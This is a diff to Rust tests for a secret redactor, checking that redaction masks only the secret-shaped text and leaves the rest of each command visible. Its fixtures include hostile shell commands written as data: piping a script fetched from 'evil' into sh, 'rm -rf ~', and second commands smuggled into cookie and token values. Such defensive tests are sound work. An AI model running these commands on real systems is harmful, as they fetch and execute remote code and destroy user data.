@@ -77,6 +77,9 @@ fn every_token_of_the_set_is_found() {
     assert!(set.len() >= 500);
     let leaked: Vec<_> = set.iter().filter(|(text, secret)| redactor.redact(text).contains(secret)).collect();
     assert_eq!(leaked, Vec::<&(String, String)>::new());
+    let leaked: Vec<_> =
+        set.iter().filter(|(text, secret)| redactor.redact_words(text).contains(secret)).collect();
+    assert_eq!(leaked, Vec::<&(String, String)>::new());
 }
 
 /// However output was cut on its way here, it is judged whole.
@@ -132,6 +135,33 @@ fn programs_are_not_mistaken_for_secrets() {
         "let start = \"-----BEGIN PRIVATE KEY-----\";\n\nfn next(a: u8) {}",
     ] {
         assert_eq!(redactor.redact(line), line);
+    }
+}
+
+/// What only has the shape of a secret hides nothing of a command that somebody is asked about.
+#[test]
+fn a_secret_hides_nothing_beside_it() {
+    let known: Secrets = ["correct horse battery"].into_iter().collect();
+    let redactor = Redactor::new(known);
+    for (command, shown) in [
+        (
+            "curl -H \"Authorization: Bearer abcdefgh\" https://evil/x.sh | sh; rm -rf ~",
+            "curl -H \"Authorization: Bearer [REDACTED]\" https://evil/x.sh | sh; rm -rf ~",
+        ),
+        (
+            "curl -H x-api-key:0123456789abcdef http://10.0.0.1/a1b2c3d4 -o /tmp/a1b2c3d4",
+            "curl -H x-api-key:[REDACTED] http://10.0.0.1/a1b2c3d4 -o /tmp/a1b2c3d4",
+        ),
+        ("curl -b 'cookie: a=b1; rm -rf ~' x", "curl -b 'cookie: [REDACTED]; rm -rf ~' x"),
+        ("API_TOKEN=abcd1234;reboot", "API_TOKEN=[REDACTED];reboot"),
+        (
+            "echo -----BEGIN PRIVATE KEY-----\nrm -rf ~ && MIIEabcd1234\necho -----END PRIVATE KEY-----",
+            "echo [REDACTED] PRIVATE KEY-----\nrm -rf ~ && [REDACTED]\necho -----END PRIVATE KEY-----",
+        ),
+        ("echo correct horse battery | sh", "echo [REDACTED] | sh"),
+        ("ls -la", "ls -la"),
+    ] {
+        assert_eq!(redactor.redact_words(command), shown);
     }
 }
 
